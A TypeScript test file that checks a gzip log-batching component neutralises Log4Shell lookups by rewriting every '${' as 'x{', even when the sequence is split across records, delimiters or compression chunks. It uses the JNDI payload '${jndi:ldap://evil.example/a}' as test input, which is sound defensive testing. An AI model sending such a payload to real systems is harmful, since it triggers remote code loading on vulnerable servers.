// CVE-2021-44228 in the batch: every `${` of the body becomes `x{`, wherever its two characters came from.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { gunzipSync } from 'node:zlib';
import fc from 'fast-check';
import { createGzipBatch } from '../../src/batch/gzip-batch.js';
import type { BatchFraming } from '../../src/batch/gzip-batch.js';

const ESCAPE: BatchFraming = { batchPrefix: '', batchSuffix: '', recordDelimiter: '', escapeJndi: true };

async function body(framing: BatchFraming, records: readonly string[]): Promise<{ text: string; uncompressedBytes: number }> {
  const batch = createGzipBatch(framing, 0);
  records.forEach((record, i) => batch.add(record, i, 0));
  const sealed = await batch.seal();
  return { text: gunzipSync(sealed.body).toString('utf8'), uncompressedBytes: sealed.uncompressedBytes };
}

test('a lookup inside a record is defused, and the byte count is that of the escaped body', async () => {
  const { text, uncompressedBytes } = await body(ESCAPE, ['{"ua":"${jndi:ldap://evil.example/a} é"}\n']);
  assert.equal(text, '{"ua":"x{jndi:ldap://evil.example/a} é"}\n');
  assert.equal(uncompressedBytes, Buffer.byteLength(text));
});

test('every ${ is replaced, including runs of $ and several per record', async () => {
  const { text } = await body(ESCAPE, ['$${a}${${b}}$$']);
  assert.equal(text, '$x{a}x{x{b}}$$');
});

test('a ${ formed across a record and the next record, a delimiter, the batch prefix or the batch suffix is replaced', async () => {
  assert.equal((await body(ESCAPE, ['a$', '{b}'])).text, 'ax{b}');
  assert.equal((await body({ ...ESCAPE, recordDelimiter: '{' }, ['a$', 'b'])).text, 'ax{b');
  assert.equal((await body({ ...ESCAPE, recordDelimiter: '$' }, ['a', '{b'])).text, 'ax{b');
  assert.equal((await body({ ...ESCAPE, batchPrefix: '[$' }, ['{a}'])).text, '[x{a}');
  assert.equal((await body({ ...ESCAPE, batchSuffix: '{]' }, ['a$'])).text, 'ax{]');
});

test('a $ that ends a gzip write chunk is held back until the next text shows whether { follows', async () => {
  // Each record ends in `$` and the next starts with `{`, so every write-chunk boundary (after 64 KiB)
  // falls on a `$` whose `{` arrives only with the next record.
  const records = Array.from({ length: 300 }, (_, i) => `{${String(i).padStart(4, '0')}${'a'.repeat(995)}$`);
  const { text, uncompressedBytes } = await body(ESCAPE, records);
  assert.ok(text.length > 4 * 64 * 1024, 'the body spans several write chunks');
  assert.equal(text, records.join('').replaceAll('${', 'x{'));
  assert.equal(text.includes('${'), false);
  assert.ok(text.endsWith('$'), 'the last $ has nothing after it and is written at the seal');
  assert.equal(uncompressedBytes, text.length);
});

test('a $ held back still counts in the batch size', () => {
  const batch = createGzipBatch(ESCAPE, 0);
  batch.add(`${'a'.repeat(70_000)}$`, 0, 0);
  assert.equal(batch.bytes, 70_001);
  batch.abandon();
});

test('without the option a ${ is left as it is, even across a write-chunk boundary', async () => {
  const plain: BatchFraming = { ...ESCAPE, escapeJndi: false };
  const records = [`${'a'.repeat(70_000)}$`, '{jndi:ldap://evil.example/a}'];
  assert.equal((await body(plain, records)).text, records.join(''));
});

test('property: the escaped body is the plain body with every ${ replaced, however records, framing and chunks fall', async () => {
  const piece = fc.string({ unit: fc.constantFrom('$', '{', 'x', 'é'), maxLength: 6 });
  // Some records are long, so that write-chunk boundaries land at many different places.
  const record = fc.tuple(piece, fc.integer({ min: 1, max: 12_000 }), piece).map(([a, n, b]) => a.repeat(n % 3 === 0 ? n : 1) + b);
  await fc.assert(
    fc.asyncProperty(fc.array(record, { maxLength: 40 }), piece, piece, piece, async (records, batchPrefix, batchSuffix, recordDelimiter) => {
      const framing: BatchFraming = { batchPrefix, batchSuffix, recordDelimiter, escapeJndi: true };
      const plain = batchPrefix + records.join(recordDelimiter) + batchSuffix;
      const { text, uncompressedBytes } = await body(framing, records);
      assert.equal(text, plain.replaceAll('${', 'x{'));
      assert.equal(uncompressedBytes, Buffer.byteLength(plain));
    }),
    { numRuns: 60 },
  );
});
